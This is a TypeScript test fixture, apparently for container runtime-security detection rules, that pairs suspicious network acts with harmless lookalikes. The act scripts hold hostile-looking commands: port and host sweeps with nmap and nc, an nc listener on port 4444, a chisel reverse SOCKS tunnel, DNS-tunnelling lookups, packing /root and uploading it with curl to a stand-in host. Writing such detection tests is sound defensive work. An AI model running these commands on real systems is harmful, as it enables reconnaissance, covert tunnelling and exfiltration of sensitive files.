import type { Act } from './act.ts';
import { NET_ADMIN, ownAddress } from './act.ts';

const LONG_LABEL = 'a'.repeat(60);

/** content/rules/network.yaml */
export const NETWORK_ACTS: readonly Act[] = [
  {
    rule: 'Network scanner run in a container',
    act: {
      says: 'nmap is run',
      script: '/usr/bin/nmap -sT 10.0.0.0/24',
      programs: ['/usr/bin/nmap'],
    },
    process: 'nmap',
    lookalike: {
      says: 'nc asks whether one port is open',
      script: '/bin/nc -w 1 127.0.0.1 8080; /bin/ping -c 1 127.0.0.1; true',
    },
  },
  {
    rule: 'Ports of one address tried in a row',
    act: {
      says: 'a shell starts nc for one port after another',
      script: `${ownAddress('10.9.8.7')}; for p in $(seq 1 30); do nc -w 1 10.9.8.7 $p; done; true`,
      container: NET_ADMIN,
    },
    process: 'nc',
    lookalike: {
      says: 'a shell starts nc for one port again and again',
      script: `${ownAddress('10.9.8.7')}; for p in $(seq 1 30); do nc -w 1 10.9.8.7 80; done; true`,
      container: NET_ADMIN,
    },
  },
  {
    rule: 'Many addresses tried at one port',
    act: {
      says: 'a shell starts nc for one address after another',
      script: 'for a in $(seq 1 60); do nc -w 1 127.0.1.$a 6379; done; true',
    },
    process: 'nc',
    lookalike: {
      says: 'a client of a cluster speaks to each of thirty members, three times',
      script:
        'for i in 1 2 3; do for a in $(seq 1 30); do nc -w 1 127.0.1.$a 6379; done; done; true',
    },
  },
  {
    rule: 'Network listened to in a container',
    act: {
      says: 'a packet socket is opened',
      script: '/usr/bin/tool packet-socket',
      programs: ['/usr/bin/tool'],
    },
    process: 'tool',
    lookalike: {
      says: 'a datagram socket is opened, a neighbour is pinged',
      script: '/usr/bin/tool udp-socket; /bin/ping -c 1 127.0.0.1',
      programs: ['/usr/bin/tool'],
    },
  },
  {
    rule: "Cluster's inner services spoken to by hand",
    act: {
      says: 'wget asks a kubelet',
      script: `${ownAddress('10.9.8.7')}; /bin/wget -q -O - http://10.9.8.7:10250/pods; true`,
      container: NET_ADMIN,
    },
    process: 'wget',
    lookalike: {
      says: 'wget asks a web server, the metrics agent asks a kubelet',
      script:
        `${ownAddress('10.9.8.7')}; /bin/wget -q -O - http://10.9.8.7:8080/; ` +
        '/usr/bin/metrics-server connect 10.9.8.7 10250',
      programs: ['/usr/bin/metrics-server'],
      container: NET_ADMIN,
    },
  },
  {
    rule: 'Remote login started from a container',
    act: {
      says: 'ssh is run',
      script: '/usr/bin/ssh root@10.0.0.5',
      programs: ['/usr/bin/ssh'],
    },
    process: 'ssh',
    lookalike: {
      says: 'git uses ssh',
      script: "/usr/bin/git run /usr/bin/ssh git@example.com git-upload-pack 'a/b'",
      programs: ['/usr/bin/ssh', '/usr/bin/git'],
    },
  },
  {
    rule: 'Tunnel or relay program run',
    act: {
      says: 'chisel is run',
      script: '/opt/chisel client 192.0.2.1:8080 R:socks',
      programs: ['/opt/chisel'],
    },
    process: 'chisel',
    lookalike: {
      says: 'a proxy with an ordinary name is run',
      script: '/opt/envoy -c /etc/envoy.yaml',
      programs: ['/opt/envoy'],
    },
  },
  {
    rule: 'Name lookup tool run in a container',
    act: {
      says: 'nslookup is run',
      script: '/bin/nslookup kubernetes.default 127.0.0.1; true',
    },
    process: 'nslookup',
    lookalike: {
      says: 'an application looks a name up itself',
      script: '/usr/bin/my-app dns kubernetes.default.svc.cluster.local 1',
      programs: ['/usr/bin/my-app'],
    },
  },
  {
    rule: 'Very long name looked up',
    act: {
      says: 'a name that carries data is asked for',
      script: `/usr/bin/my-app dns ${LONG_LABEL}.${LONG_LABEL}.x.example.com 1`,
      programs: ['/usr/bin/my-app'],
    },
    process: 'my-app',
    lookalike: {
      says: 'a name of the cluster with its search list is asked for',
      script:
        '/usr/bin/my-app dns my-service-with-a-long-name.my-namespace.svc.cluster.local.' +
        'eu-central-1.compute.internal 28',
      programs: ['/usr/bin/my-app'],
    },
  },
  {
    rule: 'Text record looked up by hand',
    act: {
      says: 'a script asks for text records',
      script: '/usr/bin/python3 dns a1b2c3.tunnel.example.com 16',
      programs: ['/usr/bin/python3'],
    },
    process: 'python3',
    lookalike: {
      says: 'a script asks for an address, a mail server for text records',
      script: '/usr/bin/python3 dns example.com 1; /usr/sbin/postfix dns example.com 16',
      programs: ['/usr/bin/python3', '/usr/sbin/postfix'],
    },
  },
  {
    rule: 'Hand tool listens for connections',
    act: { says: 'nc waits for a connection', script: '/bin/timeout 1 /bin/nc -l -p 4444; true' },
    process: 'nc',
    lookalike: {
      says: 'a web server waits for connections',
      script: '/usr/bin/my-app listen 8080',
      programs: ['/usr/bin/my-app'],
    },
  },
  {
    rule: 'Foreign program listens for connections',
    act: {
      says: 'a program written into the container waits for connections',
      script: '/bin/cp /usr/bin/tool /usr/bin/door; /usr/bin/door listen 4444',
      programs: ['/usr/bin/tool'],
    },
    process: 'door',
    lookalike: {
      says: 'a program of the image waits for connections',
      script: '/usr/bin/tool listen 4444',
      programs: ['/usr/bin/tool'],
    },
  },
  {
    rule: 'Foreign program connected to the internet',
    act: {
      says: 'a program written into the container connects to an internet address',
      script:
        `${ownAddress('203.0.113.9')}; /bin/cp /usr/bin/tool /usr/bin/beacon; ` +
        '/usr/bin/beacon connect 203.0.113.9 443',
      programs: ['/usr/bin/tool'],
      container: NET_ADMIN,
    },
    process: 'beacon',
    lookalike: {
      says: 'a program of the image does, and a written one speaks to a neighbour',
      script:
        `${ownAddress('203.0.113.9')}; ${ownAddress('10.9.8.7')}; ` +
        '/bin/cp /usr/bin/tool /usr/bin/beacon; /usr/bin/beacon connect 10.9.8.7 443; ' +
        '/usr/bin/tool connect 203.0.113.9 443',
      programs: ['/usr/bin/tool'],
      container: NET_ADMIN,
    },
  },
  {
    rule: 'Sensitive files packed',
    act: { says: 'the home directory of root is packed', script: '/bin/tar czf /x.tgz /root' },
    process: 'tar',
    lookalike: {
      says: 'an archive is unpacked, and a directory of the application packed',
      script: '/bin/mkdir /srv; /bin/tar czf /x.tgz /srv; /bin/tar xzf /x.tgz -C /root',
    },
  },
  {
    rule: 'Files sent out by hand',
    act: {
      says: 'curl uploads a file',
      script: '/usr/bin/curl -T /x.tgz https://files.example.com/',
      programs: ['/usr/bin/curl'],
    },
    process: 'curl',
    lookalike: {
      says: 'curl posts a word and fetches a file',
      script:
        '/usr/bin/curl -d state=up https://status.example.com/; /usr/bin/curl -O https://e.com/f',
      programs: ['/usr/bin/curl'],
    },
  },
];
